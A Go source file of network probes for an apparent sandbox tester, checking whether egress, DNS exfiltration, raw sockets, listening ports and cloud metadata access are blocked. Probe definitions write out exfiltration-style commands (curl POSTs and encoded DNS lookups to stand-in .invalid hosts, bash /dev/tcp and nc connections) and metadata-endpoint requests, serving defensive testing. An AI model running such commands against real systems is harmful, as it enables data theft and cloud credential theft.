//go:build linux

package probe

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

const (
	threatEgress = "Data exfiltration: traffic leaving the sandbox other than through the gateway's allowlist."
	threatDNS    = "DNS exfiltration: data encoded in queries that reach a resolver outside the sandbox."
)

func networkProbes() []Probe {
	const g = "G09"
	viaProxy := func(id, title, method, url string, goal Goal) Probe {
		return Probe{Group: g, ID: id, Title: title, Goal: goal, Threat: threatEgress,
			Shell:      fmt.Sprintf("curl -sS -X %s --max-time 15 %s", method, url),
			Alternates: []Alternate{alt("wget", "wget --spider", "wget --spider "+url)},
			Tool: func(ctx context.Context, e *Env) Result {
				return e.fetch(ctx, request{Method: method, URL: url})
			}}
	}
	return []Probe{
		{Group: g, ID: "T01", Title: "Resolve DNS name", Goal: GoalDeny, Threat: threatDNS, Shell: "nslookup probe-dns.invalid",
			Alternates: []Alternate{alt("getent", "getent hosts", "getent hosts probe-dns.invalid"), alt("host", "host", "host probe-dns.invalid"), alt("dig", "dig", "dig +short probe-dns.invalid")},
			Tool: func(ctx context.Context, _ *Env) Result {
				addrs, err := resolve(ctx, "probe-dns.invalid")
				if err != nil {
					return denied("The name did not resolve.", err.Error())
				}
				return allowed("The name resolved.", strings.Join(addrs, ","))
			}},
		viaProxy("T02", "Connect to known HTTP endpoint", "HEAD", "http://probe-http.invalid/", GoalDeny),
		viaProxy("T03", "Connect to known HTTPS endpoint", "HEAD", "https://probe-https.invalid/", GoalDeny),
		{Group: g, ID: "T05", Title: "Connect to allowlisted domain", Goal: GoalAllow, Threat: "Availability: allowlisted egress must work.",
			Adjust: func(c *Context) Goal {
				if len(c.AllowedDomains) == 0 {
					return GoalContext
				}
				return GoalAllow
			},
			Tool: func(ctx context.Context, e *Env) Result {
				if len(e.Ctx.AllowedDomains) == 0 {
					return na("No domain is allowlisted.")
				}
				return na("Not attempted: a request to an allowlisted domain would leave this machine.")
			}},
		viaProxy("T06", "Connect to blocked test domain", "HEAD", "https://probe-denied.invalid/", GoalDeny),
		{Group: g, ID: "T07", Title: "Connect to raw IP address", Goal: GoalDeny, Threat: threatEgress, Shell: "ip route get 1.1.1.1",
			Tool: func(ctx context.Context, e *Env) Result {
				if r := directRoute(netip.MustParseAddr("1.1.1.1")); r.Outcome != Denied {
					return r
				}
				return e.fetch(ctx, request{Method: "HEAD", URL: "http://192.0.2.1/"})
			}},
		{Group: g, ID: "T08", Title: "Connect to non-HTTP port", Goal: GoalDeny, Threat: threatEgress, Shell: "nc -z -w 2 probe-ssh.invalid 22",
			Alternates: []Alternate{alt("bash", "bash /dev/tcp", "bash -c 'echo > /dev/tcp/probe-ssh.invalid/22'")},
			Tool: func(ctx context.Context, e *Env) Result {
				if r := directRoute(netip.MustParseAddr("140.82.112.3")); r.Outcome != Denied {
					return r
				}
				return e.fetch(ctx, request{Method: "HEAD", URL: "https://probe-ssh.invalid:22/"})
			}},
		viaProxy("T09", "Send HTTP POST", "POST", "https://probe-post.invalid/post", GoalDeny),
		viaProxy("T10", "Download small file", "GET", "https://probe-download.invalid/bytes/128", GoalDeny),
		{Group: g, ID: "T11", Title: "Start local listening socket", Goal: GoalAny, Threat: "Covert local services.", Shell: "timeout 2 nc -l 127.0.0.1 0",
			Tool: func(context.Context, *Env) Result { return loopbackRoundTrip("tcp", "127.0.0.1:0") }},
		{Group: g, ID: "T12", Title: "Connect to local loopback service", Goal: GoalAny, Threat: "Covert local services.", Shell: "nc -z 127.0.0.1 1",
			Tool: func(context.Context, *Env) Result { return loopbackRoundTrip("tcp", "127.0.0.1:0") }},
		ctxProbe(g, "T13", "Connect to allowed localnet address", GoalAllow, func(c *Context) string { return c.AllowedLocalAddress }),
		ctxProbe(g, "T14", "Connect to denied localnet address", GoalDeny, func(c *Context) string { return c.DeniedLocalAddress }),
		{Group: g, ID: "T15", Title: "UDP send/receive", Goal: GoalAny,
			Threat: "Covert channels over UDP. Loopback only, as benign introspection: whether a role may have a UDP socket at all is G41 T06.",
			Shell:  "nc -u -w 1 127.0.0.1 9",
			Tool:   func(context.Context, *Env) Result { return udpLoopback() }},
		{Group: g, ID: "T16", Title: "ICMP ping / raw socket creation", Goal: GoalDeny, Threat: "Raw packets: spoofing and scanning without CAP_NET_RAW.", Shell: "ping -c 1 127.0.0.1",
			Tool: func(context.Context, *Env) Result {
				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
				if err != nil {
					return fromErr("Creating a raw ICMP socket", err)
				}
				unix.Close(fd)
				return allowed("A raw ICMP socket was created (nothing was sent).", "")
			}},
		{Group: g, ID: "T17", Title: "DNS over TCP vs UDP", Goal: GoalDeny, Threat: threatDNS + " (a public resolver reached directly).", Shell: "ip route get 1.1.1.1",
			Tool: func(context.Context, *Env) Result { return directRoute(netip.MustParseAddr("1.1.1.1")) }},
		{Group: g, ID: "T18", Title: "Connect to link-local metadata endpoint", Goal: GoalDeny, Threat: "Cloud credential theft through the instance metadata service.",
			Shell: "ip route get 169.254.169.254",
			Tool:  metadataEndpoints},
		ctxProbe(g, "T19", "Connect to allowed intranet target", GoalAllow, func(*Context) string { return "" }),
		// The seed probed 192.168.86.28, but Docker's default address pools
		// hand out 192.168.0.0/16 in /20s, so a run's own internal network
		// can contain that address and its on-link route would be misread
		// as a way into the host's LAN. 10.0.0.0/8 is outside those pools.
		{Group: g, ID: "T20", Title: "Connect to denied intranet target", Goal: GoalDeny, Threat: "Lateral movement into the host's LAN.", Shell: "ip route get " + intranetTarget,
			Tool: func(context.Context, *Env) Result { return directRoute(netip.MustParseAddr(intranetTarget)) }},
		{Group: g, ID: "T21", Title: "Listen on loopback interface", Goal: GoalAny, Threat: "Covert local services.", Shell: "timeout 2 nc -l 127.0.0.1 0",
			Tool: func(context.Context, *Env) Result { return listen("127.0.0.1:0") }},
		{Group: g, ID: "T22", Title: "Listen on public/all interfaces", Goal: GoalDeny, Threat: "Exposing a service to the sandbox network.", Shell: "timeout 2 nc -l 0.0.0.0 0",
			Tool: func(context.Context, *Env) Result { return listen("0.0.0.0:0") }},
		{Group: g, ID: "T23", Title: "Bind Linux privileged loopback port", Goal: GoalDeny, Threat: "Impersonating a privileged service.", Shell: "timeout 2 nc -l 127.0.0.1 80",
			Tool: func(context.Context, *Env) Result { return listen("127.0.0.1:80") }},
		{Group: g, ID: "T24", Title: "Detect outbound proxy configuration", Goal: GoalAny, Threat: "Reconnaissance (the proxy is visible by design).", Shell: "env | grep -i _proxy",
			Tool: func(context.Context, *Env) Result { return proxyVars() }},
		{Group: g, ID: "T25", Title: "Send DNS query with encoded payload", Goal: GoalDeny, Threat: threatDNS, Shell: "nslookup c2FuZGJveC10ZXN0ZXI.probe-exfil.invalid",
			Tool: func(ctx context.Context, e *Env) Result { return resolverReached(ctx, e.Ctx.DNSExfiltrationDomain) }},
		{Group: g, ID: "T26", Title: "Send HTTP request with custom headers/body to configured endpoint", Goal: GoalDeny, Threat: threatEgress,
			Shell: "curl --location --data sandbox_tester_payload=example -H 'exfiltration: example' http://probe-exfil.invalid/",
			Tool: func(ctx context.Context, e *Env) Result {
				return e.fetch(ctx, request{Method: "POST", URL: "http://probe-exfil.invalid/", Body: "sandbox_tester_payload=example",
					Header: http.Header{"Exfiltration": {"example"}, "Content-Type": {"application/x-www-form-urlencoded"}}})
			}},
		{Group: g, ID: "T27", Title: "Open WebSocket connection to configured endpoint", Goal: GoalDeny, Threat: threatEgress, Shell: "curl -i -N -H 'Upgrade: websocket' https://probe-ws.invalid/",
			Tool: func(ctx context.Context, e *Env) Result {
				return e.fetch(ctx, request{URL: "https://probe-ws.invalid/", Header: http.Header{"Upgrade": {"websocket"}, "Connection": {"Upgrade"}}})
			}},
		ctxProbe(g, "T28", "SMTP submission to configured test server", GoalDeny, func(*Context) string { return "" }),
	}
}

// ctxProbe is a context-driven TCP probe: N/A (unsupported) until the
// context configures a target; then only a local target is ever dialed.
func ctxProbe(group, id, title string, goal Goal, get func(*Context) string) Probe {
	return Probe{Group: group, ID: id, Title: title, Goal: GoalContext, Adjust: ctxGoal(get, goal),
		Threat: "Lateral movement to a configured local target.",
		Tool: func(ctx context.Context, e *Env) Result {
			target := get(e.Ctx)
			if target == "" {
				return na("No target was configured for this probe.")
			}
			return dialLocal(ctx, target)
		}}
}

// dialLocal connects to a configured host:port, refusing anything that is
// not a loopback or private address (it would leave the machine).
func dialLocal(ctx context.Context, target string) Result {
	ap, err := netip.ParseAddrPort(target)
	if err != nil {
		return errored("The configured target is not an IP:port.", err.Error())
	}
	if !localAddr(ap.Addr()) {
		return errored("Not attempted: the configured target is not a local address.", target)
	}
	d := net.Dialer{Timeout: 2 * time.Second}
	c, err := d.DialContext(ctx, "tcp", target)
	if err != nil {
		return fromErr("Connecting to "+target, err)
	}
	c.Close()
	return allowed("Connected to "+target+".", "")
}

func loopbackRoundTrip(network, addr string) Result {
	l, err := net.Listen(network, addr)
	if err != nil {
		return fromErr("Listening on "+addr, err)
	}
	defer l.Close()
	go func() {
		if c, err := l.Accept(); err == nil {
			c.Close()
		}
	}()
	c, err := net.DialTimeout(network, l.Addr().String(), 2*time.Second)
	if err != nil {
		return fromErr("Connecting to the local listener", err)
	}
	c.Close()
	return allowed("Listened on and connected to "+l.Addr().String()+".", "")
}

func listen(addr string) Result {
	l, err := net.Listen("tcp", addr)
	if err != nil {
		if errors.Is(err, unix.EADDRINUSE) {
			return na(addr + " is already in use.")
		}
		return fromErr("Listening on "+addr, err)
	}
	defer l.Close()
	return allowed("Listening on "+l.Addr().String()+" succeeded.", "")
}

func udpLoopback() Result {
	a, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		return fromErr("Opening a UDP socket", err)
	}
	defer a.Close()
	b, err := net.Dial("udp", a.LocalAddr().String())
	if err != nil {
		return fromErr("Connecting a UDP socket", err)
	}
	defer b.Close()
	if _, err := b.Write([]byte("sandbox-tester")); err != nil {
		return fromErr("Sending a UDP datagram", err)
	}
	_ = a.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 32)
	n, _, err := a.ReadFrom(buf)
	if err != nil {
		return fromErr("Receiving the UDP datagram", err)
	}
	return allowed("Sent and received a UDP datagram on loopback.", fmt.Sprintf("bytes=%d", n))
}

func proxyVars() Result {
	var set []string
	for _, k := range []string{"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY", "http_proxy", "https_proxy", "all_proxy", "no_proxy"} {
		if os.Getenv(k) != "" {
			set = append(set, k)
		}
	}
	if len(set) == 0 {
		return denied("No proxy variable is set.", "")
	}
	return allowed("Proxy variables are set.", "names="+strings.Join(set, ","))
}

// intranetTarget stands for a host on the host's LAN (G09 T20).
const intranetTarget = "10.86.0.28"

// resolverReached resolves a reserved name: any answer from a name server,
// NXDOMAIN included, means a query left the sandbox's resolver path, which
// is the exfiltration channel. Failure to reach any server is Denied.
func resolverReached(ctx context.Context, name string) Result {
	addrs, err := resolve(ctx, name)
	var dns *net.DNSError
	switch {
	case err == nil:
		return allowed("The name resolved.", strings.Join(addrs, ","))
	case errors.As(err, &dns) && dns.IsNotFound:
		return allowed("A name server answered (NXDOMAIN): queries reach a resolver.", err.Error())
	}
	return denied("No name server answered.", err.Error())
}

func metadataEndpoints(ctx context.Context, e *Env) Result {
	var evidence []string
	for _, u := range []string{"http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/computeMetadata/v1/"} {
		r := e.fetch(ctx, request{URL: u, Header: http.Header{"Metadata-Flavor": {"Google"}, "Metadata": {"true"}}})
		if r.Outcome == Allowed || r.Outcome == Error {
			return r
		}
		evidence = append(evidence, r.Summary)
	}
	if r := blackholed([]string{"metadata.google.internal"}); r.Outcome != Denied {
		return r
	}
	return denied("Every metadata endpoint was refused.", strings.Join(evidence, " "))
}
